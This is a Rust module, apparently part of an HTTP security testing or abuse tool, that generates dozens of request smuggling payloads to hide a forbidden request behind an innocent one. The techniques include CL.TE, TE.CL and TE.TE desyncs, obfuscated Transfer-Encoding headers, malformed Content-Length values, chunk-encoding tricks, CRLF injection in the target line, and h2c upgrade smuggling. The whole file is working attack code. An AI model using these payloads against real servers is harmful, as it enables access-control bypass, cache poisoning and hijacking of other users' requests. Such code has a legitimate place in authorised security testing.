//! A harmless request that hides the harmful one from who frames it in another way.

use super::{
    super::{Attempt, How},
    Case, Speaker,
};
use crate::abuse::frames::{END_HEADERS, END_STREAM, block, frame, kind};

pub(super) fn ways(case: &Case, speaker: Speaker<'_>) -> Vec<Attempt> {
    let (host, path, verb) = (case.host.as_str(), case.path.as_str(), case.verb);
    let inner = String::from_utf8_lossy(&speaker.request(verb, path, host, "", "")).into_owned();
    let head = speaker.head("GET", &case.sibling, host);
    let ended = format!("0\r\n\r\n{inner}");
    let whole = ended.len();
    let chunk = format!("{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len());
    let mut found = Vec::new();
    let mut add = |way, bytes: Vec<u8>| {
        found.push(Attempt {
            way,
            how: How::Bytes {
                connect: Some(format!("{host}:443")),
                sni: host.to_owned(),
                bytes,
            },
        });
    };
    let mut hidden =
        |way, headers: String, body: &str| add(way, format!("{head}{headers}\r\n{body}").into_bytes());

    let coded = "Transfer-Encoding: chunked\r\n";
    hidden("CL.TE", format!("Content-Length: {whole}\r\n{coded}"), &ended);
    hidden("TE.CL", format!("{coded}Content-Length: 4\r\n"), &chunk);
    hidden(
        "TE.TE",
        format!("{coded}Transfer-Encoding: identity\r\nContent-Length: {whole}\r\n"),
        &ended,
    );
    for (way, line) in [
        (
            "a coding with a space before its colon",
            "Transfer-Encoding : chunked",
        ),
        ("an unknown coding", "Transfer-Encoding: xchunked"),
        ("chunked before identity", "Transfer-Encoding: chunked, identity"),
        ("chunked twice", "Transfer-Encoding: chunked, chunked"),
        ("chunked and gzip", "Transfer-Encoding: gzip, chunked"),
        ("a coding in quotes", "Transfer-Encoding: \"chunked\""),
        ("a coding with a parameter", "Transfer-Encoding: chunked;q=1"),
        ("a coding behind a tab", "Transfer-Encoding:\tchunked"),
        ("a coding behind VT", "Transfer-Encoding: \u{b}chunked"),
        ("a coding in upper case", "TRANSFER-ENCODING: CHUNKED"),
        ("a folded coding", "Transfer-Encoding:\r\n chunked"),
        ("a coding behind LF", "X-A: b\nTransfer-Encoding: chunked"),
        ("a coding behind CR", "X-A: b\rTransfer-Encoding: chunked"),
        ("a coding with an underline", "Transfer_Encoding: chunked"),
        ("a coding with NUL", "Transfer-Encoding: chunked\0"),
    ] {
        hidden(way, format!("{line}\r\nContent-Length: {whole}\r\n"), &ended);
    }
    let length = inner.len();
    for (way, lines) in [
        ("two lengths", format!("Content-Length: 0\r\nContent-Length: {length}\r\n")),
        ("two lengths, the long one first", format!("Content-Length: {length}\r\nContent-Length: 0\r\n")),
        ("a list of lengths", format!("Content-Length: 0, {length}\r\n")),
        ("a length with a plus", "Content-Length: +0\r\n".to_owned()),
        ("a negative length", "Content-Length: -1\r\n".to_owned()),
        ("a length in hexadecimal", "Content-Length: 0x0\r\n".to_owned()),
        ("a length with a space", format!("Content-Length: 0 {length}\r\n")),
        ("a length with a space before its colon", format!("Content-Length : {length}\r\n")),
        ("an empty length", "Content-Length: \r\n".to_owned()),
        ("a length too large to count", "Content-Length: 18446744073709551616\r\n".to_owned()),
        ("no length", String::new()),
        ("Expect: 100-continue", format!("Expect: 100-continue\r\nContent-Length: {length}\r\n")),
        ("another Expect", format!("Expect: 200-ok\r\nContent-Length: {length}\r\n")),
        ("a withheld body", format!("Content-Length: {}\r\n", length + 100)),
        ("Connection: Content-Length", format!("Connection: close, Content-Length\r\nContent-Length: {length}\r\n")),
        ("Upgrade: websocket", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n".to_owned()),
        ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n".to_owned()),
    ] {
        hidden(way, lines, &inner);
    }
    let size = inner.len();
    for (way, body) in [
        ("a chunk extension", format!("0;a=b\r\n\r\n{inner}")),
        (
            "a chunk extension with LF",
            format!("2;a\nxx\r\n{size:x}\r\n{inner}\r\n0\r\n\r\n"),
        ),
        ("a chunk that ends in LF", format!("0\n\n{inner}")),
        (
            "a chunk that is longer than it says",
            format!("1\r\nab\r\n0\r\n\r\n{inner}"),
        ),
        (
            "a chunk too large to count",
            format!("10000000000000000\r\n{inner}"),
        ),
        ("a chunk size with a sign", format!("+0\r\n\r\n{inner}")),
        ("a chunk size with a prefix", format!("0x0\r\n\r\n{inner}")),
        ("a chunk size with a space", format!("0 \r\n\r\n{inner}")),
        (
            "trailers",
            format!(
                "0\r\nX-HTTP-Method-Override: {verb}\r\nX-Rewrite-URL: {path}\r\nContent-Length: 9\r\n\r\n"
            ),
        ),
        ("a trailer that is a request", format!("0\r\n{inner}")),
    ] {
        hidden(way, coded.to_owned(), &body);
    }
    add("pipelining", format!("{head}\r\n{inner}").into_bytes());
    add(
        "an empty line behind LF",
        format!("{head}X-A: b\n\n{inner}").into_bytes(),
    );
    add(
        "LF alone",
        format!("{head}\r\n{inner}").replace("\r\n", "\n").into_bytes(),
    );
    add(
        "CR alone",
        format!("{head}\r\n{inner}").replace("\r\n", "\r").into_bytes(),
    );
    add(
        "empty lines before a request",
        format!("\r\n\r\n{inner}").into_bytes(),
    );
    add(
        "a header before the first line",
        format!("X-A: b\r\n{inner}").into_bytes(),
    );
    add(
        "a space before the first header",
        inner.replacen("\r\nHost", "\r\n Host", 1).into_bytes(),
    );
    add("HTTP/1.0", inner.replacen("HTTP/1.1", "HTTP/1.0", 1).into_bytes());
    add(
        "HTTP/1.0 with a coding",
        format!("{head}{coded}Content-Length: {whole}\r\n\r\n{ended}")
            .replacen("HTTP/1.1", "HTTP/1.0", 1)
            .into_bytes(),
    );
    add("HTTP/0.9", format!("{verb} {path}\r\n").into_bytes());
    add("HTTP/1.2", inner.replacen("HTTP/1.1", "HTTP/1.2", 1).into_bytes());
    add(
        "HTTP/2.0 in text",
        inner.replacen("HTTP/1.1", "HTTP/2.0", 1).into_bytes(),
    );
    add("no version", inner.replacen(" HTTP/1.1", "", 1).into_bytes());
    let sibling = &case.sibling;
    add(
        "two targets",
        head.replacen(sibling, &format!("{sibling} {verb} {path}"), 1)
            .into_bytes(),
    );
    let line = format!("{sibling}%20HTTP/1.1%0d%0aX-Rewrite-URL:%20{path}%0d%0aX:%20");
    add(
        "an encoded line end in the target",
        format!("{}\r\n", head.replacen(sibling, &line, 1)).into_bytes(),
    );
    add("h2c by prior knowledge", {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(kind::SETTINGS, 0, 0, &[]));
        let fields = speaker.fields(verb, path, host);
        let fields = block(fields.iter().map(|(n, v)| (n.as_str(), v.as_str())));
        bytes.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &fields));
        bytes
    });
    found
}
